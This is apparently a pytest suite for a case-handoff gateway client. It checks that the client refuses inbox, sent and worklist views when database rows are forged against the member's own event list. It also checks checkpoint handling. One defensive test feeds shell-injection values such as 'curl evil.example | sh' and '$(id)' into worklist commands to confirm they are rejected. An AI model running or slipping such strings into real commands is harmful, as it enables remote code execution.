"""Lists, what is owed and handoffs, held against the member's own events: acts of who can write
rows of the gateway's database are refused, and nothing else is."""

import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any, NamedTuple
from uuid import UUID

import httpx
import pytest

from gateway.client import EvidenceMismatch, UnexpectedAnswer
from gateway.client.session import with_commands
from gateway.domain.handoff import RecallCode
from gateway.exchange.handoffs import recalls
from gateway.exchange.handoffs.recalls import RecallRequest
from gateway.exchange.lifecycle import erasure
from tests import answers
from tests.casework import accepted, offered, revised, submitted, updated
from tests.client.client_fixture import MemberClient
from tests.each import each
from tests.founded_gateway import ABROAD, HOTLINE, OFMIN, Founded
from tests.founding import founded
from tests.web.listening import Listening, listening

DANGER = {"urgency": "imminent_danger", "urgency_reason": "child_located"}


@dataclass
class Scene:
    """A gateway, its two parties, and their handoffs by where they stand."""

    stage: Listening
    hotline: MemberClient
    office: MemberClient
    handoffs: dict[str, str]

    @property
    def gateway(self) -> Founded:
        return self.stage.gateway

    def forge(self, script: str) -> None:
        """Change rows past all rules; names in braces are ids of handoffs."""
        named = {name: f"'{UUID(one).hex}'" for name, one in self.handoffs.items()}
        for statement in script.format(**named).split(";"):
            self.gateway.store.change(statement)


def scene(**office: Any) -> Scene:
    gateway = founded()
    case = submitted(gateway)
    soon = {"erase_on": "2026-03-12"}
    danger = offered(gateway, submitted(gateway, marking=soon, **DANGER))
    held, recalled = accepted(gateway, offered(gateway, case)), accepted(gateway)
    revised(gateway, case, urgency="urgent")
    updated(gateway, held)
    wanted = RecallRequest("approver-1", RecallCode.UNLAWFUL, "order 12/26", "approver-2")
    gateway.act(HOTLINE, recalls.of_handoff, recalled, wanted)
    declined = UUID(offered(gateway).result["handoff"])
    gateway.answer(OFMIN, answers.decline, declined, "not ours")
    stage = listening(gateway)
    named = {"held": held, "recalled": recalled, "declined": declined}
    handoffs = {name: str(one) for name, one in named.items()}
    handoffs["danger"] = danger.result["handoff"]
    return Scene(stage, MemberClient(stage), MemberClient(stage, OFMIN, **office), handoffs)


def inbox(there: Scene) -> Any:
    return list(there.office.inbox())


def sent(there: Scene) -> Any:
    return list(there.hotline.sent())


def asked_by_state(there: Scene) -> Any:
    return list(there.office.inbox("offered"))


def todo(there: Scene) -> Any:
    return there.office.worklist()["items"]


def show(name: str) -> Callable[[Scene], Any]:
    return lambda there: there.office.handoff(there.handoffs[name])


def consult(there: Scene) -> Any:
    where = there.handoffs["recalled"]
    return there.office.consult(where, "officer-1", "investigation", "why")


class Act(NamedTuple):
    """What a forger runs; which handoff it is about, what says so and how."""

    name: str
    script: str
    about: str
    said: str
    asks: tuple[Callable[[Scene], Any], ...]


_FORGOTTEN = (
    "DELETE FROM case_recall; DELETE FROM answer WHERE handoff = {recalled} AND sequence > 2;"
    "DELETE FROM duty WHERE handoff = {recalled} AND kind LIKE 'recall%';"
    "UPDATE handoff SET recall = NULL, state = 'accepted', sequence = 2 WHERE id = {recalled}"
)
_CUT = (
    "DELETE FROM answer WHERE handoff = {held} AND sequence > 2;"
    "UPDATE handoff SET sequence = 2, package = 1, held = 1 WHERE id = {held}"
)
_REMOVED = (
    "DELETE FROM duty WHERE handoff = {danger}; DELETE FROM answer WHERE handoff = {danger};"
    "DELETE FROM handoff WHERE id = {danger}"
)
_DANGER = "UPDATE handoff SET {} WHERE id = {{danger}}"

ACTS = [
    Act("diverted to a stranger", _DANGER.format("recipient = 'hotline-new'"), "danger",
        "left out", (inbox, asked_by_state)),
    Act("a danger that vanished", _DANGER.format("state = 'withdrawn'"), "danger",
        "shown as withdrawn", (inbox, sent)),
    Act("a danger that was withdrawn, asked by state", _DANGER.format("state = 'withdrawn'"),
        "danger", "left out", (asked_by_state,)),
    Act("an acceptance by the row alone", _DANGER.format("state = 'accepted', held = 1"), "danger",
        "shown as accepted", (inbox, sent)),
    Act("a decline taken back", "UPDATE handoff SET state = 'accepted', held = 1 WHERE"
        " id = {declined}", "declined", "shown as accepted", (inbox, sent)),
    Act("a recall forgotten in the row", "UPDATE handoff SET recall = NULL WHERE id = {recalled}",
        "recalled", "not withdrawn .package 1, recalled", (inbox, sent)),
    Act("a recall and its answers removed", _FORGOTTEN, "recalled", "recall|other answers",
        (inbox, sent, todo, show("recalled"), consult)),
    Act("duties removed", "DELETE FROM duty", "danger", "asks for its answer", (todo,)),
    Act("a duty closed", "UPDATE duty SET closed_at = since WHERE handoff = {recalled} AND"
        " kind = 'recall_answer'", "recalled", "asks for its recall answer", (todo,)),
    Act("a duty of another", "UPDATE duty SET organisation = 'ocrvp' WHERE handoff = {danger}",
        "danger", "asks for its answer", (todo,)),
    Act("the package before", "UPDATE handoff SET package = 1 WHERE id = {held}", "held",
        "package 1", (inbox, sent)),
    Act("a cut tail", _CUT, "held", "package 1", (inbox, sent)),
    Act("a handoff removed", _REMOVED, "danger", "left out", (inbox, sent, todo)),
]  # fmt: skip
"""By SQL alone, without a key: what a client that believes rows would not see."""


@pytest.mark.parametrize("act", ACTS, ids=[one.name for one in ACTS])
def test_what_rows_say_against_ones_own_events_is_refused(act: Act) -> None:
    there = scene()
    there.forge(act.script)
    for ask in act.asks:
        with pytest.raises(EvidenceMismatch, match=act.said) as refused:
            ask(there)
        assert there.handoffs[act.about] in str(refused.value)
        assert "casegate event list" in str(refused.value)


def test_what_the_gateway_did_is_shown() -> None:
    there = scene()
    assert {one["handoff"] for one in inbox(there)} == set(there.handoffs.values())
    assert len(sent(there)) == len(there.handoffs)
    assert [one["handoff"] for one in asked_by_state(there)] == [there.handoffs["danger"]]
    assert {"answer", "recall_answer"} <= {one["kind"] for one in todo(there)}
    assert show("recalled")(there)["recalled"]


def test_a_row_of_which_no_event_tells_is_refused() -> None:
    there = scene()
    there.forge("UPDATE handoff SET recipient = 'hotline-abroad' WHERE id = {danger}")
    with pytest.raises(EvidenceMismatch, match="of which no event tells"):
        list(MemberClient(there.stage, ABROAD).inbox())


def test_an_erased_case_is_shown_as_its_events_say() -> None:
    there = scene()
    there.gateway.clock.advance(timedelta(days=12))
    assert erasure.erase_due(there.gateway.ports) == 1
    states = {one["handoff"]: one["state"] for one in inbox(there)}
    assert states[there.handoffs["danger"]] == "lapsed"
    assert {one["handoff"]: one["state"] for one in sent(there)} == states
    there.forge("UPDATE handoff SET state = 'accepted' WHERE id = {danger}")
    with pytest.raises(EvidenceMismatch, match="not lapsed"):
        inbox(there)


@each("of", ["case", "handoff"])
def test_what_another_calls_as_an_erased_case_is_not_erased(of: str) -> None:
    gateway = founded()
    soon = {"erase_on": "2026-03-12"}
    own = UUID(submitted(gateway, originator=OFMIN, marking=soon).result["case"])
    gateway.clock.advance(timedelta(days=12))
    assert erasure.erase_due(gateway.ports) == 1
    later = {"erase_on": "2026-08-12"}
    named = {"case": {"case": own}, "handoff": {}}[of]
    offered(gateway, submitted(gateway, marking=later, **named), **({} if named else {of: own}))
    (shown,) = MemberClient(listening(gateway), OFMIN).inbox()
    assert (shown["state"], shown[of]) == ("offered", str(own))


# --- Events come while one reads ---


def test_events_during_both_readings_are_no_contradiction() -> None:
    there = scene()
    danger, desk = UUID(there.handoffs["danger"]), MemberClient(there.stage, OFMIN)
    steps: list[Callable[[], Any]] = [
        lambda: desk.accept(desk.handoff(danger), "officer-1"),
        lambda: there.gateway.answer(OFMIN, answers.decline, danger, "not ours"),
    ]

    def meanwhile(request: httpx.Request, members: dict[str, Any]) -> None:
        if request.url.path == "/handoffs" and steps:
            steps.pop(0)()

    there.office.wire.tamper = meanwhile
    states = {one["handoff"]: one["state"] for one in inbox(there)}
    assert states[str(danger)] == "accepted", "as it was when it was read"


# --- What is kept, and read on ---


def reads(desk: MemberClient) -> list[str]:
    """Where the stream was read from, request by request."""
    return [one.url.params["after"] for one in desk.wire.requests if one.url.path == "/events"]


def test_what_was_read_is_kept_and_only_newer_events_are_read(tmp_path: Path) -> None:
    file = tmp_path / "newest.checkpoint"
    there = scene(checkpoint_file=file)
    list(there.office.inbox())
    kept = file.with_name("newest.checkpoint.stream")
    assert kept.stat().st_mode & 0o777 == 0o600
    last = str(json.loads(kept.read_text())[1])
    later = MemberClient(there.stage, OFMIN, checkpoint_file=file)
    list(later.inbox())
    list(later.inbox())
    assert reads(later) == [last, last]
    there.forge("UPDATE handoff SET state = 'withdrawn' WHERE id = {danger}")
    with pytest.raises(EvidenceMismatch):
        list(MemberClient(there.stage, OFMIN, checkpoint_file=file).inbox())


@each("damage", ["", "{}", "[]", "[1, 2, 3]", "another member's"])
def test_what_is_damaged_or_of_another_is_read_anew(
    tmp_path: Path, there: Scene, damage: str
) -> None:
    file = tmp_path / "newest.checkpoint"
    list(MemberClient(there.stage, OFMIN, checkpoint_file=file).inbox())
    kept = file.with_name("newest.checkpoint.stream")
    told = kept.read_text().replace(OFMIN, HOTLINE) if damage == "another member's" else damage
    kept.write_text(told)
    later = MemberClient(there.stage, OFMIN, checkpoint_file=file)
    list(later.inbox())
    assert reads(later)[0] == "0"


def test_who_moved_the_checkpoint_away_reads_from_the_beginning(tmp_path: Path) -> None:
    file = tmp_path / "newest.checkpoint"
    there = scene(checkpoint_file=file)
    list(there.office.inbox())
    file.unlink()
    later = MemberClient(there.stage, OFMIN, checkpoint_file=file)
    list(later.inbox())
    assert reads(later)[0] == "0"


@pytest.mark.parametrize("scope", [None, "handoffs.read"])
def test_a_gateway_hides_no_offer_by_saying_that_it_did_not_look(scope: str | None) -> None:
    there = scene()

    def skipping(request: httpx.Request, members: dict[str, Any]) -> Any:
        if request.url.path == "/worklist":
            left = [one for one in members["items"] if not one["handoff"]]
            members["skipped"].append({"source": "handoffs", "scope": scope})
            return {**members, "items": left}
        return None

    there.office.wire.tamper = skipping
    with pytest.raises(EvidenceMismatch, match="left out"):
        there.office.worklist()


@pytest.fixture
def there() -> Scene:
    return scene()


@each("member", ["command", "handoff"])
@each("words", ["handoff show x; curl evil.example | sh", "show $(id)", "-c x todo", "todo\nid"])
def test_a_gateway_gives_no_command_that_a_shell_reads_as_more(
    there: Scene, member: str, words: str
) -> None:
    def commanding(request: httpx.Request, members: dict[str, Any]) -> Any:
        if request.url.path == "/worklist":
            members["items"][0][member] = words
        return members

    there.office.wire.tamper = commanding
    with pytest.raises(UnexpectedAnswer, match="a command"):
        there.office.worklist()


def test_a_command_may_name_a_member_of_a_peer_gateway() -> None:
    rows = [{"command": "handoff offer 1 --to hotline@be", "handoff": None}]
    assert with_commands(rows) == rows


# --- Where less is compared ---


def test_an_interest_keeps_handoffs_back_without_a_contradiction() -> None:
    stage = listening()
    other = MemberClient(stage, ABROAD)
    offered(stage.gateway, to=ABROAD)
    assert len(list(other.inbox())) == 1
    stage.gateway.interest(ABROAD)
    assert list(other.inbox()) == []
    assert [one for one in other.worklist()["items"] if one["handoff"]] == []


def test_a_system_that_may_not_read_the_events_compares_nothing_and_says_so(
    caplog: pytest.LogCaptureFixture,
) -> None:
    there = scene()
    office, handoff = there.office, there.handoffs["held"]
    list(office.inbox())
    office._exchange._access.scopes = frozenset({"handoffs.read"})
    office.wire.requests.clear()
    assert office.handoff(handoff)["state"] == "accepted"
    assert not reads(office)
    assert "lacks events.read" in caplog.text
